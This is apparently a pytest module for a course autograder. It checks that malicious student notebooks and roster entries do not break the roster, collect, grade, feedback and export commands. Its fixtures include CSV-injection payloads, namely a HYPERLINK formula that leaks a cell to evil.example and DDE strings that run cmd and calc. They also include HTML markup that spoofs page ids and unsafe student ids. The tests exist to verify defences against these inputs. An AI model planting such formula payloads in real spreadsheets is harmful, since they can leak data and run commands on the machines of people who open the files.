"""No student stops the class, and no roster runs in a spreadsheet (issue 32, items 6, 7, 8 and 11).

One class of 01_first_function goes through the real commands once: `roster` (a roster whose names are
spreadsheet formulas), `collect` (from a folder download that also holds students with unsafe ids),
`grade`, `feedback` and `export`. Besides honest students, each hostile student hands in something
that once stopped a whole command: a display message nested 3,000 deep, a notebook file nested
100,000 deep, a photo pasted into a markdown cell, an error whose text is the hidden-test marker,
outputs with lone surrogates, NaN and a million lines, markdown that renderers choke on, cells whose
shape is not a notebook's, cell ids nbformat refuses. Every one must end in that student's own row
and page, with a reason, while every other student is collected, graded, given a finished page and
exported.

Points of 01_first_function: test_cube_forward 1, test_cube_backward 2, test_sqrt 3,
test_poly_function 3, test_net 2 (11 in all).
"""

from __future__ import annotations

import csv
import json
import os
import shutil
from dataclasses import dataclass

import pytest

from autograder.course import Course
from autograder.grading.records.lms import STUDENT_ID_RULE
from conftest import PNG
from test_robustness import (ASSIGNMENT, MAX_SCORE, NOTEBOOK, Notebooks, _course, autograded, autograder, code_cell,
                             grades_csv, write_submissions)

pytestmark = pytest.mark.slow

MARKER = "### BEGIN HIDDEN TESTS"
# Roster names a spreadsheet would run (OWASP's examples of CSV injection), on valid ids.
HOSTILE_NAMES = {"right": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
                           "@SUM(1+1)*cmd|' /C calc'!A0", "=2+2"),
                 "photo": ("-2+3", "Doe, =1+1", "jane@uni.edu", "12345")}
BAD_IDS = ("-2-3", "@A1", "=1+1")


def markdown_cell(cell_id: str, text: str, attachments: dict | None = None) -> dict:
    cell = {"cell_type": "markdown", "id": cell_id, "metadata": {}, "source": text}
    if attachments is not None:
        cell["attachments"] = attachments
    return cell


def submissions(notebooks: Notebooks) -> dict[str, dict | str]:
    """student -> the notebook they hand in (a dict, or the file's text)."""
    nb = notebooks
    photo = nb.answers()
    photo["cells"].insert(2, markdown_cell("photo", "My derivation, on paper:\n\n![derivation](attachment:d.png)",
                                           {"d.png": {"image/png": PNG}, "notes.pdf": {"application/pdf": "JVBERg=="}}))
    deep = nb.answers()
    deep["cells"].append(code_cell("deep", "import sys\nsys.setrecursionlimit(100_000)\nfrom IPython.display import "
                                           "display\nx = []\nfor _ in range(3000):\n    x = [x]\n"
                                           "display({'application/json': x}, raw=True)\n"))
    marker = nb.answers(cube=nb.in_backward("cube", f"raise ValueError({MARKER!r})"))
    marker["cells"].append(code_cell("marker-print", f"print({MARKER!r})\nraise RuntimeError({MARKER!r})"))
    marker["cells"].insert(2, markdown_cell("marker-md", f"{MARKER}\n\n![x](attachment:{MARKER}.png)",
                                            {f"{MARKER}.png": {"image/png": PNG}}))
    odd = nb.answers()
    odd["cells"].append(code_cell("odd", "from IPython.display import display\nprint('lone \\ud800 surrogate')\n"
                                         "display({'application/json': {'a': float('nan')}, 'text/plain': 'nan'}, "
                                         "raw=True)\nprint('\\n' * 1_000_000)\n"
                                         "display({'text/markdown': '# test_sqrt'}, raw=True)\n"))
    renderers = nb.answers()
    renderers["cells"][2:2] = [markdown_cell("quotes", "> " * 5000 + "deep"),
                               markdown_cell("divs", "<div>" * 30_000 + "many"),
                               markdown_cell("ids", '<span id="test_sqrt" class="score full-credit" name="x">a</span>'
                                                    "\n\n# test_net\n\n![gone](attachment:missing.png)")]
    misshapen = nb.answers()
    misshapen["cells"][3]["metadata"] = ["not", "a", "mapping"]
    odd_ids = nb.answers()  # nbformat refuses these ids: nbconvert, and so the page, would fail on them
    for index, cell in enumerate(odd_ids["cells"]):
        cell["id"] = f"<b id=test_net>\u202e\x00{index}"
    return {"right": nb.answers(), "photo": photo, "deep_message": deep, "marker": marker, "odd_outputs": odd,
            "renderers": renderers, "misshapen": misshapen, "odd_ids": odd_ids,
            "deep_file": "[" * 100_000 + "]" * 100_000}


@dataclass
class Run:
    course: Course
    roster: object
    bad_roster: object
    collect: object
    grade: object
    feedback: object
    export: object
    rows: dict[str, dict]

    def page(self, student: str) -> str:
        return (self.course.grading / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    root = tmp_path_factory.mktemp("one-student")
    course = _course(root / "course")
    subs = submissions(Notebooks(course.root))
    download = root / "download"
    for student, notebook in {**subs, **{bad: subs["right"] for bad in BAD_IDS}}.items():
        (download / student).mkdir(parents=True)
        text = notebook if isinstance(notebook, str) else json.dumps(notebook)
        (download / student / NOTEBOOK).write_text(text, encoding="utf-8")
    roster = root / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "first_name", "last_name", "email", "lms_user_id"])
        writer.writerows([student, *HOSTILE_NAMES.get(student, ("", "", "", ""))] for student in subs)
    bad_roster = root / "bad_roster.csv"
    bad_roster.write_text("id,first_name\nada,Ada\n-2-3,Minus\n", encoding="utf-8")
    ran = {"roster": autograder(course, "roster", str(roster)), "bad_roster": autograder(course, "roster", str(bad_roster)),
           "collect": autograder(course, "collect", ASSIGNMENT, str(download)),
           "grade": autograder(course, "grade", ASSIGNMENT, "--timeout", "20", "--jobs", "2"),
           "feedback": autograder(course, "feedback", ASSIGNMENT),
           "export": autograder(course, "export", ASSIGNMENT)}
    return Run(course, **ran, rows=grades_csv(course))


def test_no_command_ends_in_a_traceback(run):
    for name in ("roster", "bad_roster", "collect", "grade", "feedback", "export"):
        result = getattr(run, name)
        assert "Traceback" not in result.stdout + result.stderr, (name, result.stderr[-3000:])
    assert run.roster.returncode == 0 and run.grade.returncode == 0, run.grade.stderr[-3000:]
    assert run.feedback.returncode == 0 and run.export.returncode == 0, run.feedback.stderr[-3000:]
    assert run.feedback.stdout.strip().splitlines()[-1] == "9 feedback pages, 0 students with problems"


def test_unsafe_student_ids_are_refused_at_roster_and_collect_in_one_line(run):
    assert run.bad_roster.returncode == 2
    assert run.bad_roster.stderr == f"error: {run.course.root.parent / 'bad_roster.csv'}, line 3: invalid student " \
                                    f"id '-2-3': {STUDENT_ID_RULE}\n"
    assert run.collect.returncode == 1  # something was not collected: the instructor must look
    for bad in BAD_IDS:
        assert f"{bad}: nothing collected; invalid student id '{bad}': {STUDENT_ID_RULE} (nothing collected)" \
            in run.collect.stdout.splitlines(), run.collect.stdout
    # with problems: the 3 unsafe ids, and the 2 notebooks collected that cannot be graded
    assert run.collect.stdout.strip().splitlines()[-1] == "9 students collected, 5 with problems"
    assert set(run.rows) == {"right", "photo", "deep_message", "marker", "odd_outputs", "renderers", "misshapen",
                             "deep_file", "odd_ids"}


def test_every_student_has_a_row_saying_what_happened(run):
    def row(student):
        r = run.rows[student]
        return float(r["score"]), r["status"]

    for student in ("right", "photo", "odd_outputs", "renderers", "odd_ids"):
        assert row(student) == (MAX_SCORE, "graded"), run.rows[student]
    # The display message nested 3,000 deep comes after every test: they count, and the row says why it stopped.
    assert row("deep_message") == (MAX_SCORE, "kernel died")
    assert "nested more than 100 levels deep" in run.rows["deep_message"]["detail"]
    assert row("marker") == (MAX_SCORE - 2, "graded")  # its backward raises: test_cube_backward fails
    assert row("deep_file") == (0, "invalid notebook")
    assert "not valid JSON (nested more than 100 levels deep)" in run.rows["deep_file"]["detail"]
    assert row("misshapen") == (0, "invalid notebook")
    assert "cell 4's metadata is not a JSON object" in run.rows["misshapen"]["detail"]
    summary = run.grade.stdout.strip().splitlines()[-1]
    assert summary.startswith("2 invalid notebook, 1 kernel died, 6 graded; wrote ") and \
        summary.endswith("grades.csv; 3 students with problems"), summary


def test_every_page_is_finished_and_says_why(run):
    for student in run.rows:
        page = run.page(student)
        assert "<script" not in page and "white-space: pre-wrap" in page, student  # finished by `feedback`
        assert MARKER not in page and "could not be shown" not in page, student
    assert "nested more than 100 levels deep" in run.page("deep_file")
    assert "cell 4's metadata is not a JSON object" in run.page("misshapen")
    marker = run.page("marker")
    # The print, the error (the notebook's own check failed: the referee says nothing more), the markdown and
    # the attachment's name: each with its marker defused.
    assert marker.count("HIDDEN_TESTS") >= 4, marker


def test_a_pasted_photo_is_shown_inline_and_other_attachments_named(run):
    page = run.page("photo")
    assert f'<img alt="d.png" src="data:image/png;base64,{PNG}"/>' in page  # (as nbconvert writes it back)
    assert '[attachment "notes.pdf": not an image this page can show (application/pdf)]' in page
    assert '[attachment "missing.png": not in the notebook]' in run.page("renderers")


def test_student_markup_names_no_element_of_the_page(run):
    page = run.page("renderers")
    assert 'id="test_sqrt"' not in page and 'id="test_net"' not in page and 'name="x"' not in page
    assert "full-credit" not in page and "many" in page and "deep" in page
    odd = run.page("odd_outputs")  # its markdown output "# test_sqrt", which nbconvert would give that id
    assert 'id="test_sqrt"' not in odd and "test_sqrt<a href" in odd


def test_odd_outputs_are_kept_writable(run):
    shown = json.dumps(autograded(run.course, "odd_outputs")["cells"][-1]["outputs"])
    assert "lone \\ufffd" in shown and '"a": null' in shown and "Output truncated" in run.page("odd_outputs")


def test_exports_run_no_formula(run):
    exports = run.course.grading / "exports" / ASSIGNMENT
    cells = [cell for name in ("canvas.csv", "grades.csv", "per_test.csv")
             for line in csv.reader((exports / name).open(newline="", encoding="utf-8")) for cell in line]
    cells += [cell for line in csv.reader((run.course.grading / "grades.csv").open(newline="")) for cell in line]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert not formulas
    with (exports / "grades.csv").open(newline="", encoding="utf-8") as stream:
        right = next(r for r in csv.DictReader(stream) if r["student_id"] == "right")
    assert (right["first_name"], right["last_name"], right["email"], right["lms_user_id"]) == (
        "'" + HOSTILE_NAMES["right"][0], "'" + HOSTILE_NAMES["right"][1], "'" + HOSTILE_NAMES["right"][2], "'=2+2")
    with (exports / "canvas.csv").open(newline="", encoding="utf-8") as stream:
        names = {row[2]: row[0] for row in csv.reader(stream)}  # (SIS User ID: the course's student id)
    assert names["photo"] == "Doe, '=1+1, '-2+3"  # "last, first": a formula after a separator is neutral too


def test_a_page_nbgrader_cannot_make_says_so_and_the_others_are_finished(run, tmp_path):
    course = Course(tmp_path / "course")
    shutil.copytree(run.course.root, course.root)
    broken = course.grading / "autograded" / "photo" / ASSIGNMENT / NOTEBOOK
    broken.write_text("{")  # as if its notebook had been cut short: nbgrader fails on it
    again = autograder(course, "feedback", ASSIGNMENT)
    assert again.returncode == 1 and "Traceback" not in again.stdout + again.stderr, again.stderr[-3000:]
    assert again.stdout.strip().splitlines()[-1] == "9 feedback pages, 1 student with problems"
    assert again.stderr.startswith("photo: only a page saying the feedback could not be made (")
    page = (course.grading / "feedback" / "photo" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "could not be shown" in page and "Score: 11 / 11" in page and "<script" not in page
    for student in set(run.rows) - {"photo"}:
        page = (course.grading / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
        assert "white-space: pre-wrap" in page and "could not be shown" not in page, student


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_whatever_the_grader_raises_on_one_notebook_ends_in_that_student_s_row(tmp_path, monkeypatch):
    """Fault injection for the cases no notebook is known to reach any more: the grader itself raising while it
    prepares, runs or scores one student's notebook (grade's contained.py). That student gets 0, a row and a
    page saying what was raised; the others are graded as usual."""
    from autograder.grading import grade as grading
    from autograder.grading.results.feedback import feedback

    course = _course(tmp_path / "course")
    notebooks = Notebooks(course.root)
    write_submissions(course, {s: notebooks.answers() for s in ("fine", "breaks_prepare", "breaks_run", "breaks_scoring")})
    prepare, run_task, finish = grading._Grader.prepare, grading.run_task, grading._Grader.finish_task

    def failing(name, error, real, who):
        def call(*args, **kwargs):
            if name in str(who(*args)):
                raise error
            return real(*args, **kwargs)
        return call

    monkeypatch.setattr(grading._Grader, "prepare", failing("breaks_prepare", KeyError("x"), prepare, lambda s, st: st))
    # (by the task: a notebook's working folder no longer names its student)
    monkeypatch.setattr(grading, "run_task", failing("breaks_run", OSError("no pipe"), run_task, lambda task: task.student_id))
    monkeypatch.setattr(grading._Grader, "finish_task", failing("breaks_scoring", ValueError("bad output"), finish,
                                                                lambda s, task, e: task.student_id))
    with open(os.devnull, "w") as quiet:
        rows = {r.student_id: r for r in grading.grade(course, ASSIGNMENT, jobs=2, progress=quiet)}

    assert (rows["fine"].score, rows["fine"].status) == (MAX_SCORE, "graded")
    for student, detail in {"breaks_prepare": "the grader could not prepare it (KeyError: 'x')",
                            "breaks_run": f"{NOTEBOOK}: the grader could not score it (OSError: no pipe)",
                            "breaks_scoring": f"{NOTEBOOK}: the grader could not score it (ValueError: bad output)"}.items():
        assert (rows[student].score, rows[student].status, rows[student].detail) == (0, "invalid notebook", detail)
        assert set(grades_csv(course)) == set(rows)
    result = feedback(course, ASSIGNMENT)
    assert len(result.pages) == 4 and result.problems == {}
    page = (course.grading / "feedback" / "breaks_run" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "could not be graded" in page and "OSError: no pipe" in page
